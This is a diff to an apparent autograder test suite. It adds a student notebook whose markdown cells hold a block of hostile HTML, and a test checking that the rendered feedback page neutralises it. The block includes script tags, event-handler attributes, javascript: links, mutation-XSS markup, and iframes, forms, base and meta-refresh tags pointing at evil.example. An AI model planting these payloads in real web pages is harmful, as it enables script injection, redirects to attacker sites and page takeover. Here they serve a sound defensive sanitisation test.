@@ -50,6 +50,7 @@ SUBMISSIONS: dict[str, list[Answer] | None] = {
     "wrong": [WRONG["concat_weights/axis-0"], WRONG["sigmoid/in-place"]],
     "blank": None,
     "leaky": LEAKY,
+    "edited": [],  # the solution, its markdown cells edited and one added (HOSTILE_MARKDOWN)
 }
 # The hidden half of every grade cell, and how the graders are reached: none of it may reach a student.
 HIDDEN_MARKERS = ("BEGIN HIDDEN TESTS", "END HIDDEN TESTS", "from autograder", "autograder.nbgrader_glue.kernel",
@@ -60,6 +61,19 @@ DUE, SUBMITTED = datetime(2021, 1, 1), "2021-06-01 12:00:00.000000 UTC"  # every
 # A written answer is the student's own text, hostile: markup in it must reach the page as text.
 HOSTILE_ANSWER = ('Because <img src=x onerror="document.title=1"> the blocks <script>document.title=2</script> '
                   "line up & $W_h < 1$ [link](javascript:alert(3)) HOSTILE-END")
+# Markdown cells are the student's too: HTML in any of them, edited or added, must not run nor take the page over.
+HOSTILE_MARKDOWN = """<script>document.title = "pwned-script"</script>
+<img src=x onerror="document.title = 'pwned-img'"> <iframe src="https://evil.example/"></iframe>
+<form action="https://evil.example/"><input name=q><button>Go</button></form>
+<style>body { display: none }</style>
+<div style="position: fixed; inset: 0; background: white">COVER</div>
+<svg onload="document.title = 'pwned-svg'"><circle r=5 /></svg>
+<a href="javascript:document.title = 'pwned-a'">click</a> [md link](javascript:alert(1))
+<object data="x"></object><embed src="x"><base href="https://evil.example/">
+<meta http-equiv="refresh" content="0; url=https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">
+EDITED-MARKER
+
+<math><mtext><table><mglyph><style><img src=x onerror="document.title = 'pwned-mxss'">"""
 WRITTEN = {"leaky": HOSTILE_ANSWER, "solution": "The first n_h columns of W_h meet h, the last n_x meet x."}
 
 
@@ -79,6 +93,15 @@ def course(tmp_path_factory) -> Path:
             written = next(c for c in notebook["cells"]
                            if c["metadata"].get("nbgrader", {}).get("grade_id") == "explain_formulas")
             written["source"] = WRITTEN[student]
+            path.write_text(json.dumps(notebook))
+        if student == "edited":  # two narrative cells edited, one cell added
+            notebook = json.loads(path.read_text())
+            narrative = [c for c in notebook["cells"] if c["cell_type"] == "markdown" and "nbgrader" not in
+                         c["metadata"]]
+            narrative[1]["source"] = "".join(narrative[1]["source"]) + "\n\n" + HOSTILE_MARKDOWN
+            narrative[-1]["source"] = "".join(narrative[-1]["source"]) + "\n<style>main { visibility: hidden }</style>"
+            notebook["cells"].insert(0, {"cell_type": "markdown", "id": "added", "metadata": {},
+                                         "source": HOSTILE_MARKDOWN})
             path.write_text(json.dumps(notebook))
         shutil.copy(release / "selfcheck.py", folder)
         (folder / "timestamp.txt").write_text(SUBMITTED)
@@ -326,6 +349,40 @@ def test_a_written_answer_reaches_the_page_as_text_never_markup(feedback):
     assert "<math" in answer and "&amp;" in answer
     assert "onerror" not in page.replace("&lt;img src=x onerror=", "")
     assert "[link](javascript:alert(3))" in as_text(answer)
+
+
+LIVE_TAGS = {"script", "iframe", "frame", "form", "input", "button", "object", "embed", "base", "meta", "link",
+             "style", "svg"}
+
+
+def test_markdown_a_student_edited_or_added_is_never_live_html(feedback):
+    """The edited student's page, parsed: in its body no element that runs, loads, submits or restyles (script,
+    frame, form, object, style, ...), no handler attribute, no `javascript:` URL, no style attribute; the words
+    are still there. Their released narrative (the cells they did not touch) reads as the solution's page does:
+    the same headings, the formulas drawn as MathML."""
+    from bs4 import BeautifulSoup
+
+    page = BeautifulSoup(feedback["edited"], "html.parser")
+    body = page.body
+    assert body is not None
+    assert sorted({tag.name for tag in body.find_all(True)} & LIVE_TAGS) == []
+    attributes = [(tag.name, name, str(value)) for tag in page.find_all(True) for name, value in tag.attrs.items()]
+    assert [a for a in attributes if a[1].lower().startswith("on")] == []
+    assert [a for a in attributes if "javascript:" in a[2].replace(" ", "").lower()] == []
+    assert [a for a in attributes if a[1] == "style" and a[0] != "html"] == [], "no style on the page's elements"
+    assert [a for a in attributes if a[1] in ("src", "href", "action", "data") and "evil.example" in a[2]] == []
+    text = body.get_text()
+    assert text.count("EDITED-MARKER") == 2 and "COVER" in text and "[md link](javascript:alert(1))" in text
+    # The narrative they did not touch: as on the solution's page.
+    solution = BeautifulSoup(feedback["solution"], "html.parser")
+
+    def headings(soup) -> list[str]:
+        return [h.get_text(" ", strip=True) for h in soup.find_all(["h1", "h2", "h3", "h4", "h5", "h6"])]
+
+    assert headings(page)[1:] == headings(solution)[1:] and len(headings(page)) > 5  # (the title has the score)
+    drawn = len(solution.find_all("math"))
+    assert drawn > 20 and len(page.find_all("math")) >= drawn
+    assert "$" not in body.get_text().replace("[md link]", "")
 
 
 def test_a_written_answer_no_one_has_graded_is_to_be_graded_not_a_zero(feedback):
